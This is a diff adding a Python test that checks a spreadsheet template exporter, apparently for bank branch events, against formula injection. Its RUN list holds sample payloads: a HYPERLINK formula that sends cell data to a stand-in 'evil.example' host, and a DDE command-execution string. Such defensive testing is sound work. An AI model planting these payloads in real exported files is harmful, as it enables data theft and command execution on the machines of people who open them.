@@ -11,10 +11,11 @@ from exchange.template import template_bytes
 from exchange.upload import Action, import_rows, preview
 from locales import LANGUAGES, speaking
 from models.count import Count
+from models.draft import EventDraft
 from models.permission import COORDINATOR
 from models.viewer import Viewer
 from store.database import Database
-from store.events import read_event
+from store.events import read_event, save_event
 from store.units import save_unit
 from tests.exchange.lists import counts, events
 
@@ -93,3 +94,21 @@ def test_only_units_one_records_for_are_offered(ledger: Database, viewer: Viewer
     own = Viewer.holding("wang", COORDINATOR, f"{branch}/{branch + 1}/")
     assert offered(template_bytes(ledger, own, branch, "zh_CN"), "organisation") == ["甲支行"]
     assert offered(template_bytes(ledger, own, branch + 2, "zh_CN"), "organisation") == []
+
+
+RUN = ['=HYPERLINK("https://evil.example/?"&B5,"3·15")', "+cmd|'/c calc'!A1", "@SUM(1)", "https://a.example/"]
+
+
+def test_no_name_becomes_a_formula_in_anybodys_list(ledger: Database, viewer: Viewer) -> None:
+    units = {name: save_unit(ledger, viewer, name=name).id or 0 for name in ("甲支行", "乙支行", "=1+1")}
+    for name in (*RUN, "金融消保在身边"):
+        assert save_event(
+            ledger, viewer, EventDraft(title="讲座", organisation=units["甲支行"], campaigns=(name,))
+        ).done
+    other = Viewer.holding("li", COORDINATOR, f"{units['乙支行']}/")
+    for who in (viewer, other):
+        content = template_bytes(ledger, who, None, "zh_CN")
+        cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
+        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
+        assert set(offered(content, "campaigns")) & {*RUN, "金融消保在身边"} == {"https://a.example/", "金融消保在身边"}
+    assert offered(template_bytes(ledger, viewer, None, "zh_CN"), "organisation") == ["甲支行", "乙支行"]
